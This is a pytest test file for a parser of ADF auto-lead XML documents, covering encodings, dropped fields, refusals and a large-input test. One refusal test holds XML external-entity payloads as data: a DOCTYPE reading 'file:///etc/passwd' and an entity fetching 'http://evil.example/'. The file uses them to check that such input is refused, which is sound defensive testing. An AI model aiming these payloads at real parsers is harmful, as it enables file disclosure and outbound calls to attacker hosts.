"""Files as senders really send them: what is read, and what is reported as dropped."""

import pytest
from lead_service import adf
from lead_service.adf import AdfRefused, Dropped

ONE = "<prospect><customer><contact><name>王伟</name><phone>13900001111</phone></contact></customer></prospect>"
DECLARED_UTF8 = '<?xml version="1.0" encoding="UTF-8"?>'


def names(document: bytes | str) -> list[str | None]:
    """The customers' names, in order."""
    return [prospect.customer.contact.name for prospect in adf.parse(document).prospects]


@pytest.mark.parametrize(
    ("document", "dropped"),
    [
        (f'<?ADF VERSION "1.0"?><adf>{ONE}</adf>', []),
        (f'<?adf version="1.0"?><adf>{ONE}</adf>', []),
        (f"<?adf version='1.0'?>\n<ADF>{ONE}</ADF>", []),
        (f'<adf xmlns="urn:adf">{ONE}</adf>', []),
        (f"<adf>{ONE}<prospect/></adf>", []),
        (f"<adf>{ONE}<checksum>7</checksum></adf>", [Dropped("adf/checksum", "7", "not part of ADF 1.0")]),
        (f"Hello,\n\n<adf>{ONE}</adf>\n\n-- \nSent from my <phone>", []),
        (f"<html><body><pre><adf>{ONE}</adf></pre></body></html>", []),
        (
            (DECLARED_UTF8 + f"<adf>{ONE}</adf>").encode("gbk"),
            [Dropped("encoding", "UTF-8", "it is written in gb18030")],
        ),
        (f"<adf>{ONE}</adf>".encode("gbk"), [Dropped("encoding", "utf-8", "it is written in gb18030")]),
        (
            f'<?xml version="1.0" encoding="ascii"?><adf>{ONE}</adf>'.encode(),
            [Dropped("encoding", "ascii", "it is written in utf-8")],
        ),
        (("\ufeff" + DECLARED_UTF8 + f"<adf>{ONE}</adf>").encode(), []),
        (f"<adf>{ONE}</adf>".encode("utf-16"), []),
    ],
)
def test_a_file_is_read_whatever_stands_around_it(document, dropped):
    assert names(document)[0] == "王伟"
    assert list(adf.parse(document).dropped) == dropped


@pytest.mark.parametrize(
    ("inside", "path", "value", "why"),
    [
        (
            "<requestdate>next week</requestdate>",
            "requestdate",
            "next week",
            'Invalid date value or format "next week"',
        ),
        ("<requestdate>2026-02-30</requestdate>", "requestdate", "2026-02-30", "day is out of range for month"),
        ("<vehicle><year>20O6</year></vehicle>", "vehicle/year", "20O6", "not a whole number"),
        ("<vehicle><price>面议</price></vehicle>", "vehicle/price", "面议", "not an amount"),
        ("<vehicle><odometer>12k</odometer></vehicle>", "vehicle/odometer", "12k", "not a whole number"),
        (
            "<vehicle><make>BYD</make><make>比亚迪</make></vehicle>",
            "vehicle/make[2]",
            "比亚迪",
            "ADF has one; the first is kept",
        ),
        ("<vendor><address>浦东</address></vendor>", "vendor/address", "浦东", "not part of ADF 1.0"),
        (
            "<customer/><customer><comments>?</comments></customer>",
            "customer[2]",
            "?",
            "ADF has one; the first is kept",
        ),
        ("<id/>", "id", "", "an id without a value identifies nothing"),
        ("<x>" + "长" * 500 + "</x>", "x", "长" * 100, "not part of ADF 1.0"),
    ],
)
def test_what_cannot_be_used_is_named_and_the_rest_is_read(inside, path, value, why):
    [prospect] = adf.parse(f"<adf><prospect><id>1</id>{inside}</prospect></adf>").prospects

    assert prospect.ids[0].value == "1"
    [dropped] = prospect.dropped
    assert (dropped.path.removeprefix("adf/prospect[1]/").replace("id[2]", "id"), dropped.value, dropped.why) == (
        path,
        value,
        why,
    )


@pytest.mark.parametrize(
    "inside",
    [
        "<vendor><id>SH-01</id></vendor>",
        "<vehicle><model>Seal</model></vehicle>",
        "<customer><contact><phone type='wechat'>13900001111</phone></contact></customer>",
        "<customer><contact><phone type='CELLPHONE' time='nopreference'>1</phone></contact></customer>",
        "<vehicle interest='BUY' status=''/>",
        "<provider><name part='first'>懂车帝</name></provider>",
        "<requestdate/>",
        "<!-- nothing -->",
    ],
)
def test_what_is_missing_or_odd_and_can_be_used_is_not_dropped(inside):
    [prospect] = adf.parse(f"<adf><prospect>{inside}</prospect></adf>").prospects

    assert list(prospect.dropped) == []


@pytest.mark.parametrize(
    ("document", "why"),
    [
        ('<!DOCTYPE adf [<!ENTITY a "x">]><adf>&a;</adf>', "DTDs and entity declarations are refused"),
        ('<!DOCTYPE adf SYSTEM "file:///etc/passwd"><adf/>', "DTDs and entity declarations are refused"),
        ('<!ENTITY % p SYSTEM "http://evil.example/"><adf/>', "DTDs and entity declarations are refused"),
        ("<adf>&undeclared;</adf>", "the XML is not well-formed"),
        ("<adf><prospect></adf>", "the XML is not well-formed"),
        (b"<adf>\xff\xfe\xfd</adf>", "it is not written in utf-8"),
        ("<adf><prospect>", "there is no complete <adf> element in it"),
        ("", "there is no complete <adf> element in it"),
    ],
)
def test_what_is_not_safe_or_not_whole_is_refused(document, why):
    with pytest.raises(AdfRefused, match=why):
        adf.parse(document)


def test_ten_megabytes_of_prospects_are_read():
    document = "<adf>" + ONE.replace("</name>", "</name>" + "<email>a@b.example</email>" * 20) * 16_500 + "</adf>"

    assert len(document.encode()) > 10_000_000
    assert len(adf.parse(document.encode()).prospects) == 16_500
